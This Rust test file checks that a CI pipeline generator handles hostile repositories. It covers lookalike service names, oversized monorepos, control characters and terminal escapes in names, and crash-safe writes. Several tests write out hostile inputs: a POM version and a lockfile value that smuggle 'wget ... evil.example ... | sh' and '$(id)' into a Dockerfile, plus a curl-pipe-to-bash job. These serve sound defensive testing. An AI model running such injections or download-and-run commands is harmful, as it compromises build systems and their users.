//! Hostile repositories through `pipewright generate` and `POST /api/v1/pipeline/generate`,
//! from outside: the classes of issue 16 a repository's own names and sizes caused (job names
//! alike, a monorepo too large for one pipeline, newlines and control characters in names,
//! terminal escapes), and the file set written whole or not at all.

mod serve_support;

use serde_json::{json, Value};
use std::path::Path;
use std::process::{Command, Output};

fn pipewright(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_pipewright"))
        .env_remove("CHROMADB_HOST")
        .env_remove("PIPEWRIGHT_STORE")
        .env_remove("LLM_PROVIDER")
        .env(
            "PIPEWRIGHT_DATA_DIR",
            std::env::temp_dir().join("pw-hostile-data"),
        )
        .args(args)
        .output()
        .expect("run pipewright")
}

fn write(root: &Path, rel: &str, text: &str) {
    let path = root.join(rel);
    std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
    std::fs::write(path, text).expect("write");
}

/// A Go web service in `dir` (`""` for the root).
fn go_service(root: &Path, dir: &str) {
    let join = |f: &str| {
        if dir.is_empty() {
            f.to_string()
        } else {
            format!("{dir}/{f}")
        }
    };
    write(root, &join("go.mod"), "module example.com/svc\n\ngo 1.22\n");
    write(
        root,
        &join("main.go"),
        "package main\n\nimport \"net/http\"\n\nfunc main() {\n\thttp.ListenAndServe(\":8080\", nil)\n}\n",
    );
}

fn job_names(pipeline: &str) -> Vec<String> {
    pipeline
        .lines()
        .filter(|l| !l.starts_with(' ') && !l.starts_with('#') && l.ends_with(':'))
        .map(|l| l.trim_end_matches(':').trim_matches('"').to_string())
        .filter(|n| n.contains(':'))
        .collect()
}

fn generate_json(dir: &Path) -> (Output, Value) {
    let out = pipewright(&[
        "generate",
        "--dry-run",
        "--json",
        "--template-only",
        dir.to_str().expect("utf-8"),
    ]);
    let body = serde_json::from_slice(&out.stdout).unwrap_or(Value::Null);
    (out, body)
}

/// The folders that gave `compile:api` twice (and a 500 from the service).
const ALIKE: &[&str] = &[
    "apps/api",
    "legacy/api",
    "svc/Api",
    "svc/api",
    "svc/my-api",
    "svc/my+api",
    "svc/🚀",
    "svc/🛸",
];

#[test]
fn services_whose_names_end_alike_get_distinct_job_names() {
    let repo = tempfile::tempdir().expect("tempdir");
    for dir in ALIKE {
        go_service(repo.path(), dir);
    }
    let (out, body) = generate_json(repo.path());
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let ci = body["files"][".gitlab-ci.yml"].as_str().expect("pipeline");
    let names = job_names(ci);
    let compiles: Vec<&String> = names.iter().filter(|n| n.starts_with("compile:")).collect();
    assert_eq!(compiles.len(), ALIKE.len(), "{names:?}");
    let mut unique = names.clone();
    unique.sort();
    unique.dedup();
    assert_eq!(unique.len(), names.len(), "a job name twice: {names:?}");
    assert!(names.contains(&"compile:apps-api".to_string()), "{names:?}");
    assert!(
        names.contains(&"compile:legacy-api".to_string()),
        "{names:?}"
    );
    // The validator passed our own output: no findings of error severity.
    let errors: Vec<&Value> = body["findings"]
        .as_array()
        .map(|f| f.iter().filter(|f| f["severity"] == "error").collect())
        .unwrap_or_default();
    assert!(errors.is_empty(), "{errors:?}");
}

#[tokio::test]
async fn the_service_answers_names_alike_with_a_pipeline_not_500() {
    let mut files = serde_json::Map::new();
    for dir in ["apps/api", "legacy/api", "x/API", "x/api"] {
        files.insert(
            format!("{dir}/go.mod"),
            json!("module example.com/svc\n\ngo 1.22\n"),
        );
        files.insert(
            format!("{dir}/main.go"),
            json!("package main\n\nfunc main() {}\n"),
        );
    }
    let server = serve_support::spawn();
    let (status, body) = server
        .call(
            "/api/v1/pipeline/generate",
            &json!({ "files": files, "use_template_only": true }),
        )
        .await;
    assert_eq!(status, 200, "{body}");
    let ci = body["files"][".gitlab-ci.yml"].as_str().expect("pipeline");
    let names = job_names(ci);
    let mut unique = names.clone();
    unique.sort();
    unique.dedup();
    assert_eq!(unique.len(), names.len(), "{names:?}");
}

fn copy_fixture(name: &str, to: &Path) {
    let from = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../fixtures/repos")
        .join(name);
    let status = Command::new("cp")
        .arg("-r")
        .arg(format!("{}/.", from.display()))
        .arg(to)
        .status()
        .expect("cp");
    assert!(status.success());
}

/// The injection issue 16 found: a POM `<version>` with `&#10;` put a `RUN wget … | sh`
/// instruction into the generated Dockerfile, and the validator passed it.
const INJECTED: &str = "0.0.1&#10;RUN wget -qO- http://evil.example/x.sh | sh&#10;";

#[test]
fn a_pom_version_cannot_inject_a_dockerfile_instruction() {
    let repo = tempfile::tempdir().expect("tempdir");
    copy_fixture("java-spring-maven", repo.path());
    let pom = repo.path().join("pom.xml");
    let text = std::fs::read_to_string(&pom).expect("pom");
    let text = text.replace(
        "<version>0.0.1-SNAPSHOT</version>",
        &format!("<version>{INJECTED}</version>"),
    );
    assert!(text.contains("evil.example"));
    std::fs::write(&pom, text).expect("write pom");
    let (out, body) = generate_json(repo.path());
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let dockerfile = body["files"]["Dockerfile"].as_str().expect("Dockerfile");
    for line in dockerfile.lines() {
        assert!(
            !line.contains("evil.example"),
            "injected: {line}\n{dockerfile}"
        );
    }
    // The jar name it could not trust falls back to the one Maven built.
    assert!(dockerfile.contains("-name '*.jar'"), "{dockerfile}");
}

/// Found by the Gemfile.lock fuzz target: the lock's `BUNDLED WITH` went as it was into
/// `gem install bundler -v …` in the Dockerfile and the job scripts, so `2.5.<<EOF` opened a
/// heredoc (a Dockerfile pipewright's own validator rejected) and `2.5.6;…` ran a command.
#[test]
fn a_lockfile_version_is_never_a_shell_command() {
    for bundled_with in [
        "2.5.<<EOF",
        "2.5.6;wget -qO- http://evil.example/x|sh",
        "2.5.6 $(id)",
    ] {
        let repo = tempfile::tempdir().expect("tempdir");
        copy_fixture("ruby-sinatra-rackup", repo.path());
        let lock = repo.path().join("Gemfile.lock");
        let text = std::fs::read_to_string(&lock).expect("lock");
        let (head, _) = text.split_once("BUNDLED WITH").expect("BUNDLED WITH");
        std::fs::write(&lock, format!("{head}BUNDLED WITH\n   {bundled_with}\n")).expect("write");
        let (out, body) = generate_json(repo.path());
        assert!(
            out.status.success(),
            "{bundled_with}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        for (name, text) in body["files"].as_object().expect("files") {
            let text = text.as_str().expect("text");
            for bad in ["<<EOF", "evil.example", "$(id)"] {
                assert!(
                    !text.contains(bad),
                    "{bundled_with}: {name} holds {bad}\n{text}"
                );
            }
        }
    }
}

/// Found by the Dockerfile fuzz target: a kept Dockerfile's test-stage `WORKDIR` went into the
/// pipeline's `APP_DIR` variable with a bidirectional override (U+202E) in it, unchecked.
#[test]
fn a_kept_dockerfile_workdir_with_a_control_character_is_refused_with_it_shown() {
    for workdir in ["/\u{202e}/src", "/a\u{1b}[2J"] {
        let repo = tempfile::tempdir().expect("tempdir");
        go_service(repo.path(), "");
        write(
            repo.path(),
            "Dockerfile",
            &format!(
                "FROM golang:1.22-bookworm AS deps\nWORKDIR {workdir}\nCOPY go.mod ./\nRUN go mod download\n\nFROM deps AS tests\nCOPY . .\nRUN go vet ./...\n\nFROM gcr.io/distroless/static-debian12\nCOPY --from=tests /src/app /app\nUSER 65532\nENTRYPOINT [\"/app\"]\n"
            ),
        );
        let out = pipewright(&[
            "generate",
            "--template-only",
            repo.path().to_str().expect("utf-8"),
        ]);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(!out.status.success(), "{workdir:?}: {stderr}");
        assert!(
            stderr.contains("holds a control character") && stderr.contains("\\u{"),
            "{workdir:?}: {stderr}"
        );
        assert!(
            !stderr.contains('\u{202e}') && !stderr.contains('\u{1b}'),
            "{stderr:?}"
        );
        assert!(!repo.path().join(".gitlab-ci.yml").exists());
    }
}

#[test]
fn the_validator_flags_a_dockerfile_that_runs_a_download() {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("Dockerfile");
    std::fs::write(
        &path,
        "FROM eclipse-temurin:21-jre\nRUN cp target/app-0.0.1\nRUN wget -qO- http://evil.example/x.sh | sh\nUSER 1000\nCMD [\"java\", \"-jar\", \"/app/app.jar\"]\n",
    )
    .expect("write");
    let out = pipewright(&["validate", "--json", path.to_str().expect("utf-8")]);
    let body: Value = serde_json::from_slice(&out.stdout).expect("json");
    let rules: Vec<&str> = body["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .filter_map(|f| f["rule"].as_str())
        .collect();
    assert!(rules.contains(&"remote-code-run"), "{body}");
    assert!(!out.status.success());
}

#[test]
fn the_validator_flags_a_job_that_pipes_a_download_into_a_shell() {
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join(".gitlab-ci.yml");
    std::fs::write(
        &path,
        "stages: [build]\nbuild:\n  stage: build\n  image: alpine:3.20\n  script:\n    - curl -fsSL https://get.example.com/install.sh | bash\n",
    )
    .expect("write");
    let out = pipewright(&["validate", "--json", path.to_str().expect("utf-8")]);
    let body: Value = serde_json::from_slice(&out.stdout).expect("json");
    let hit = body["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .find(|f| f["rule"] == "remote-code-run")
        .unwrap_or_else(|| panic!("{body}"));
    assert_eq!(hit["line"], 6, "{hit}");
}

#[test]
fn a_folder_name_with_a_newline_is_refused_with_the_name_escaped_and_nothing_written() {
    let repo = tempfile::tempdir().expect("tempdir");
    go_service(repo.path(), "ok");
    go_service(repo.path(), "nl\ndir");
    let out = pipewright(&[
        "generate",
        "--template-only",
        repo.path().to_str().expect("utf-8"),
    ]);
    assert!(!out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("nl\\ndir"), "{stderr}");
    assert!(stderr.contains("rename the folder"), "{stderr}");
    assert!(!stderr.contains("nl\ndir"), "{stderr}");
    assert!(!repo.path().join(".gitlab-ci.yml").exists());
    assert!(!repo.path().join("ok/Dockerfile").exists());
}

#[tokio::test]
async fn the_service_answers_a_folder_a_shell_would_split_with_422() {
    let mut files = serde_json::Map::new();
    for dir in ["ok", "my api;id"] {
        files.insert(
            format!("{dir}/go.mod"),
            json!("module example.com/svc\n\ngo 1.22\n"),
        );
        files.insert(
            format!("{dir}/main.go"),
            json!("package main\n\nfunc main() {}\n"),
        );
    }
    let server = serve_support::spawn();
    let (status, body) = server
        .call(
            "/api/v1/pipeline/generate",
            &json!({ "files": files, "use_template_only": true }),
        )
        .await;
    assert!((400..500).contains(&status), "{status} {body}");
    let message = body["error"]["message"].as_str().expect("message");
    assert!(message.contains("`my api;id`"), "{message}");
}

fn temporaries(root: &Path) -> Vec<String> {
    let mut found = Vec::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).expect("ls").flatten() {
            let path = entry.path();
            if path.is_dir() {
                stack.push(path);
            } else if entry.file_name().to_string_lossy().ends_with(".tmp") {
                found.push(path.display().to_string());
            }
        }
    }
    found
}

#[test]
fn a_folder_named_dockerfile_means_no_file_of_the_set_is_written() {
    let repo = tempfile::tempdir().expect("tempdir");
    go_service(repo.path(), "");
    std::fs::create_dir(repo.path().join("Dockerfile")).expect("mkdir");
    let out = pipewright(&[
        "generate",
        "--force",
        "--template-only",
        repo.path().to_str().expect("utf-8"),
    ]);
    assert!(!out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("a folder is in its place"), "{stderr}");
    assert!(stderr.contains("nothing was written"), "{stderr}");
    assert!(!repo.path().join(".gitlab-ci.yml").exists());
    assert!(!repo.path().join(".dockerignore").exists());
    assert!(temporaries(repo.path()).is_empty());
}

#[test]
fn kill_9_during_generate_leaves_no_temporary_file_after_the_next_run() {
    let repo = tempfile::tempdir().expect("tempdir");
    for i in 0..25 {
        go_service(repo.path(), &format!("svc{i:03}"));
    }
    let target = repo.path().to_str().expect("utf-8");
    // `--replace-dockerfile`: every run writes every Dockerfile again (otherwise the ones the
    // first run wrote are the repository's own and kept).
    let args = [
        "generate",
        "--force",
        "--replace-dockerfile",
        "--template-only",
        target,
    ];
    let began = std::time::Instant::now();
    assert!(pipewright(&args).status.success());
    let full = began.elapsed();
    let expected: Vec<(std::path::PathBuf, Vec<u8>)> = (0..25)
        .map(|i| repo.path().join(format!("svc{i:03}/Dockerfile")))
        .chain([repo.path().join(".gitlab-ci.yml")])
        .map(|p| {
            let bytes = std::fs::read(&p).expect("written");
            (p, bytes)
        })
        .collect();
    let mut left_by_kills = 0;
    for round in 0..20u32 {
        let mut child = Command::new(env!("CARGO_BIN_EXE_pipewright"))
            .env_remove("LLM_PROVIDER")
            .env(
                "PIPEWRIGHT_DATA_DIR",
                std::env::temp_dir().join("pw-hostile-data"),
            )
            .args(args)
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .expect("spawn");
        // Spread the kills over the whole run, the writing at its end included.
        let at = full.mul_f64(0.4 + f64::from(round % 10) / 15.0 + fastrand::f64() * 0.05);
        std::thread::sleep(at);
        let _ = child.kill();
        let _ = child.wait();
        left_by_kills += temporaries(repo.path()).len();
        // Every target is whole at any moment: the old bytes or the new, never a part.
        for (path, bytes) in &expected {
            assert_eq!(
                &std::fs::read(path).expect("target"),
                bytes,
                "{}",
                path.display()
            );
        }
    }
    // What the issue saw after its kills (the old name), and one of ours by a dead process
    // (no pid is above Linux's pid_max): the next run removes both.
    for stale in [
        "svc024/.Dockerfile.pipewright-27426.tmp",
        "svc003/.pipewright-4294967-a8Xk2q.tmp",
    ] {
        std::fs::write(repo.path().join(stale), "half").expect("plant");
    }
    // 27426 may be a live process on this machine; only ours by a dead one must go.
    assert!(pipewright(&args).status.success());
    let left = temporaries(repo.path());
    assert!(
        left.iter()
            .all(|t| t.ends_with(".Dockerfile.pipewright-27426.tmp"))
            && left.len() <= usize::from(std::path::Path::new("/proc/27426").exists()),
        "{left:?}"
    );
    eprintln!("temporary files seen after kills: {left_by_kills}");
}

/// Go services `svc000`…: 500 of them made a 4.7 MB pipeline, over the 4 MiB a
/// `.gitlab-ci.yml` may be (and the validator's own limit), which the service answered with a
/// 500.
fn go_monorepo(services: usize) -> serde_json::Map<String, Value> {
    let mut files = serde_json::Map::new();
    for i in 0..services {
        files.insert(
            format!("svc{i:04}/go.mod"),
            json!("module example.com/svc\n\ngo 1.22\n"),
        );
        files.insert(
            format!("svc{i:04}/main.go"),
            json!("package main\n\nimport \"net/http\"\n\nfunc main() {\n\thttp.ListenAndServe(\":8080\", nil)\n}\n"),
        );
    }
    files
}

fn write_monorepo(root: &Path, services: usize) {
    for (rel, text) in go_monorepo(services) {
        write(root, &rel, text.as_str().expect("text"));
    }
}

#[test]
fn a_500_service_monorepo_shares_templates_and_stays_under_the_limit() {
    let repo = tempfile::tempdir().expect("tempdir");
    write_monorepo(repo.path(), 500);
    let (out, body) = generate_json(repo.path());
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let ci = body["files"][".gitlab-ci.yml"].as_str().expect("pipeline");
    assert!(ci.len() <= 4 * 1024 * 1024, "{} bytes", ci.len());
    assert!(ci.contains("\n.compile:\n"), "no shared template");
    assert!(ci.contains("compile:svc0000:\n  extends: .compile\n"));
    assert_eq!(
        job_names(ci)
            .iter()
            .filter(|n| n.starts_with("build:"))
            .count(),
        500
    );
    // The validator (schema, extends, the owned stages) passed it.
    let errors: Vec<&Value> = body["findings"]
        .as_array()
        .map(|f| f.iter().filter(|f| f["severity"] == "error").collect())
        .unwrap_or_default();
    assert!(errors.is_empty(), "{errors:?}");
}

#[test]
fn a_monorepo_too_large_even_with_templates_is_refused_with_what_to_do() {
    let repo = tempfile::tempdir().expect("tempdir");
    write_monorepo(repo.path(), 1000);
    let out = pipewright(&[
        "generate",
        "--template-only",
        repo.path().to_str().expect("utf-8"),
    ]);
    assert_eq!(out.status.code(), Some(3));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("the pipeline for 1000 services would be"),
        "{stderr}"
    );
    assert!(stderr.contains("4194304-byte limit"), "{stderr}");
    assert!(
        stderr.contains("run pipewright on each sub-folder"),
        "{stderr}"
    );
    assert!(!repo.path().join(".gitlab-ci.yml").exists());
    assert!(!repo.path().join("svc0000/Dockerfile").exists());
}

#[tokio::test]
async fn the_service_answers_a_too_large_monorepo_with_422() {
    let server = serve_support::spawn();
    let (status, body) = server
        .call(
            "/api/v1/pipeline/generate",
            &json!({ "files": go_monorepo(1000), "use_template_only": true }),
        )
        .await;
    assert_eq!(status, 422, "{body}");
    assert_eq!(body["error"]["code"], "invalid_request", "{body}");
    let message = body["error"]["message"].as_str().expect("message");
    assert!(message.contains("1000 services"), "{message}");
}

#[test]
fn terminal_escapes_in_folder_names_are_printed_escaped() {
    let repo = tempfile::tempdir().expect("tempdir");
    // Sets the terminal title, then clears the screen.
    let hostile = "svc-\u{1b}]0;pwned\u{7}-\u{1b}[2J";
    go_service(repo.path(), hostile);
    go_service(repo.path(), "ok");
    let dir = repo.path().to_str().expect("utf-8");
    for args in [
        vec!["analyze", dir],
        vec!["generate", "--dry-run", "--template-only", dir],
    ] {
        let out = pipewright(&args);
        for (stream, bytes) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
            let text = String::from_utf8_lossy(bytes);
            assert!(
                !text.contains('\u{1b}') && !text.contains('\u{7}'),
                "{args:?} {stream} holds a raw escape: {text:?}"
            );
        }
        let all = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(all.contains("svc-\\u{1b}]0;pwned\\u{7}"), "{args:?}: {all}");
    }
}

/// A job name with escapes in a repository's own `.gitlab-ci.yml` reaches `pipewright watch`
/// through GitLab: it is printed escaped too.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn terminal_escapes_in_job_names_are_printed_escaped_by_watch() {
    use pipewright_adapters::fake_gitlab::{FakeGitLab, PipelineScript, FAKE_TOKEN};
    // YAML's `\e` and `\a`: ESC and BEL, a title change.
    let ci = "stages: [build]\n\"build-\\e]0;pwned\\a\":\n  stage: build\n  script: [make]\n";
    let gitlab = FakeGitLab::start().await.expect("fake GitLab");
    let project = gitlab.add_project("team/hostile", &[(".gitlab-ci.yml", ci)]);
    gitlab.script_pipelines(
        project,
        PipelineScript::every(std::time::Duration::from_millis(40)),
    );
    let response = pipewright_adapters::http::client()
        .expect("an HTTP client")
        .post(format!(
            "{}/api/v4/projects/{project}/repository/commits",
            gitlab.url()
        ))
        .header("PRIVATE-TOKEN", FAKE_TOKEN)
        .json(&json!({"branch": "feature/x", "start_branch": "main",
            "commit_message": "ci", "actions": [{"action": "update",
            "file_path": ".gitlab-ci.yml", "content": format!("{ci}\n")}]}))
        .send()
        .await
        .expect("commit");
    assert_eq!(response.status().as_u16(), 201);
    let url = gitlab.url();
    let out = tokio::task::spawn_blocking(move || {
        Command::new(env!("CARGO_BIN_EXE_pipewright"))
            .args([
                "watch",
                &project.to_string(),
                "--branch",
                "feature/x",
                "--interval",
                "0.05",
            ])
            .env("GITLAB_URL", url)
            .env("GITLAB_TOKEN", FAKE_TOKEN)
            .env_remove("PIPEWRIGHT_POLL_INTERVAL")
            .output()
            .expect("run pipewright watch")
    })
    .await
    .expect("join");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        !stdout.contains('\u{1b}') && !stdout.contains('\u{7}'),
        "a raw escape: {stdout:?}"
    );
    assert!(stdout.contains("build-\\u{1b}]0;pwned\\u{7}"), "{stdout}");
}
